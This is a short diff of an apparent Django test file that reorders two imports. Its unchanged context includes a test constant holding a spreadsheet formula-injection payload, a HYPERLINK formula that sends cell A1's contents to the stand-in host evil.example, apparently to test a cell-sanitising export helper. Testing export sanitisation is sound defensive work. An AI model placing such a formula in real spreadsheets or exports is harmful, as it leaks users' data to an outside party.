@@ -12,8 +12,8 @@ from django.core.management import call_command
 from django.db import connection
 
 from constraints.dashboard.exports import safe_cell
-from sources.models import Channel, Measure
 from sources.days import yesterday
+from sources.models import Channel, Measure
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
